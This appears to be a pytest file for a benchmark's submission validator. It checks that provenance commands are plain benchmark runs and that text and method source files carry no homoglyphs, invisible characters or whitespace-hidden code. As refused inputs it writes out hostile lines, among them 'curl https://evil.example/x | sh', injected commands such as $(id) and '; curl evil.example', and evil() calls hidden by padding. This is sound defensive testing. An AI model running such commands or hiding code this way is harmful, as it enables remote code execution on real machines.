"""What a record may say and what a method's file may look like: every way to hide something, and honest texts."""

from __future__ import annotations

import runpy
from pathlib import Path

import pytest

from benchmark.results.record import Record
from benchmark.results.store import load_records
from benchmark.submission.command import is_run_command
from benchmark.submission.texts import check_source, record_texts, text_refusal

ROOT = Path(__file__).resolve().parents[3]
# Test folders are not packages (importmode=importlib), hence no import.
record_fields = runpy.run_path(str(ROOT / "tests" / "benchmark" / "results" / "conftest.py"))["record_fields"]


def test_committed_records_pass():
    assert [reason for record in load_records(ROOT / "leaderboards") for reason in record_texts(record)] == []


@pytest.mark.parametrize(
    "text",
    [
        "python -m benchmark run",
        "python -m benchmark run quickstart --methods at,hydra --seeds 0,1 --preset smoke --jobs 2 --device cpu",
        "python -m benchmark run --set training.epochs=5 small.yaml --set 'grid.weights=[fp, binary]' --seed=1",
        "python -m benchmark run --data-dir '/home/José/my data; rm -rf x' --out 'a'\"'\"'b'",
    ],
)
def test_a_run_with_its_own_options_is_a_command(text):
    assert is_run_command(text) and text_refusal("provenance.command", text) == ""


@pytest.mark.parametrize(
    "text",
    [
        "",
        "curl https://evil.example/x | sh",
        "python -m benchmark",
        "python -m benchmark verify x",
        "python3 -m benchmark run",
        "python -m benchmark run; curl evil.example",
        "python -m benchmark run quickstart && true",
        "python -m benchmark run quickstart & true",
        "python -m benchmark run $(id)",
        "python -m benchmark run `id`",
        "python -m benchmark run $HOME",
        "python -m benchmark run > /etc/passwd",
        "python -m benchmark run <(id)",
        "python -m benchmark run *.yaml",
        "python -m benchmark run ~/x.yaml",
        'python -m benchmark run "$(id)"',
        "python -m benchmark run quickstart # nothing",
        "python -m benchmark run quickstart\nid",
        "python -m benchmark run quickstart\0id",
        "python -m benchmark run quickstart \\\nid",
        "python -m benchmark run 'quickstart",
        "python -m benchmark run quickstart digits",
        "python -m benchmark run --unknown x",
        "python -m benchmark run --out",
        "python -m benchmark run -x",
        "python  -m benchmark run",
        "LD_PRELOAD=x python -m benchmark run",
        "python -m benchmark run !! ",
        "python -m benchmark run {a,b}",
    ],
)
def test_anything_else_is_no_command(text):
    assert text_refusal("provenance.command", text) != ""
    reasons = record_texts(Record(**record_fields(provenance__command=text)))
    assert [reason for reason in reasons if reason.startswith("provenance.command: ")]


@pytest.mark.parametrize(
    ("place", "text", "reason"),
    [
        ("method.deviations", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "markup"),
        ("method.deviations", "it \u0440\u0430ys off", "mixes letters"),
        ("method.deviations", "a\u3164b", "U+3164"),
        ("method.deviations", "a\ufe0fb", "U+FE0F"),
        ("evaluation.notes", "a\u200bb", "U+200B"),
        ("evaluation.health.reason", "a\x1b[31m", "U+001B"),
        ("credit", "\u0410da L\u043evelace", "mixes letters"),
        ("credit", "Ada\u2066", "U+2066"),
        ("credit", "\uff1dcmd()", "another form of '='"),
        ("provenance.device", "cpu\u115f", "other than ASCII"),
        ("method.options.x", "\uff45vil", "other than ASCII"),
    ],
)
def test_text_that_hides_is_refused(place, text, reason):
    assert reason in text_refusal(place, text)


@pytest.mark.parametrize(
    ("place", "text"),
    [
        (
            "method.deviations",
            "its lr of 0.1 \xd7 2 \u2013 here 0.05 ± 0.01; \u2016w\u2016 \u2264 1, naïve, x² \u2013 see Süsstrunk.",
        ),
        ("credit", "Zoë Müller-Łukasz"),
        ("credit", "\u0410\u043d\u043d\u0430 \u041a\u0430\u0440\u0435\u043d\u0438\u043d\u0430"),
        ("credit", "\u5c71\u7530 \u592a\u90ce"),
    ],
)
def test_honest_text_passes(place, text):
    assert text_refusal(place, text) == ""


def test_the_methods_of_the_benchmark_pass_as_sources():
    for path in (ROOT / "methods").rglob("*.py"):
        assert check_source(path.read_bytes()) == [], path


def test_other_letters_may_be_in_comments_and_plain_strings():
    text = '# coding: utf-8\r\n"""Süß, \u03b5-ball, \u8bad\u7ec3."""\r\nx = f"{1:.1f} ± 2"  # é\r\n\ty = \'naïve\'\r\n'
    assert check_source(text.encode()) == []


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("a\u115f = 1", "U+115F"),
        ("\u3164 = 1", "U+3164"),
        ("a\u200b = 1", "U+200B"),
        ("a\ufe00 = 1", "U+FE00"),
        ("# \U000e0041", "U+E0041"),
        ("# \u202e", "U+202E"),
        ("x = '\x1b[2J'", "U+001B"),
        ("x = 1\0", "U+0000"),
        ("# \revil()", "U+000D"),
        ("x = 1\x0cevil()", "U+000C"),
        ("# \u2028evil()", "U+2028"),
        ("\ufeffx = 1", "U+FEFF"),
        ("\uff45xec('x')", "another form of 'e'"),
        ('x = f"{\uff45xec(1)}"', "another form of 'e'"),
        ("\xaabs(1)", "U+00AA in line 1; names are ASCII"),
        ("x = 1\n\u0430 = 1", "U+0430 in line 2; names are ASCII"),
        ('f"{\u0430}"', "U+0430 in line 1; names are ASCII"),
        ("é = 1", "U+00E9"),
        ("x = \u0661", "U+0661"),
        ("x = 1\u037e evil()", "U+037E"),
        ("# p\u0430ypal", "mixes letters of Cyrillic and Latin"),
        ("x = 1" + " " * 5000 + "; evil()", "5,013 columns in line 1, at most 200"),
        ("x = 1" + " " * 60 + "; evil()", "more than 40 blanks within line 1"),
        ("x = 1" + "\t" * 9 + "; evil()", "more than 40 blanks within line 1"),
        ("if x:\n" + " " * 120 + "evil()", "begins line 2 after more than 100 blanks"),
        ("x = 1\n" + "\n" * 300 + "evil()", "more than 20 empty lines"),
        ("x = 1\n" * 6000, "6,001 lines, at most 5,000"),
        ("# -*- coding: utf-7 -*-\n", "encoding utf-7 in line 1"),
        ("#!/usr/bin/python\n# vim: set fileencoding=latin-1 :\n", "encoding latin-1 in line 2"),
        ("# coding: rot13\n", "encoding rot13"),
        ("é = (", "U+00E9"),
        ("# é\nx = '''", "is not Python"),
    ],
)
def test_a_source_that_does_not_read_as_it_runs_is_refused(text, reason):
    (sentence,) = check_source(text.encode())
    assert sentence.startswith("the method's file ") and reason in sentence
